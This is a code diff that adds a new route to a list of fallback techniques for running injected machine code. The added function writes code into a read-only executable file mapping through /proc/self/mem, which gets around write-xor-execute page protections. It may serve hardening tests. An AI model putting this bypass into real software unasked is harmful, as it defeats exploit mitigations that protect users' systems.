@@ -77,7 +77,17 @@ def add(a, b):
             raise OSError(ctypes.get_errno(), "personality")
         return address
 
-    routes = (read_implies_exec, read_only_implies_exec, anonymous_rwx, written_then_protected, lambda: file_mapped_twice("/tmp/code"),
+    def written_through_proc_self_mem():  # writes through page protections, into a file's executable mapping
+        import json
+        fd = os.open(json.__file__, os.O_RDONLY)
+        address = libc.mmap(None, 4096, 5, 0x02, fd, 0)  # PROT_READ|PROT_EXEC, MAP_PRIVATE: allowed
+        if address in (None, ctypes.c_void_p(-1).value):
+            raise OSError(ctypes.get_errno(), "mmap")
+        memory = os.open("/proc/self/mem", os.O_RDWR)
+        os.pwrite(memory, code, address)
+        return address
+
+    routes = (written_through_proc_self_mem, read_implies_exec, read_only_implies_exec, anonymous_rwx, written_then_protected, lambda: file_mapped_twice("/tmp/code"),
               shared_zero_page_aliased, private_copy_of_a_library)
     for route in routes:
         try:
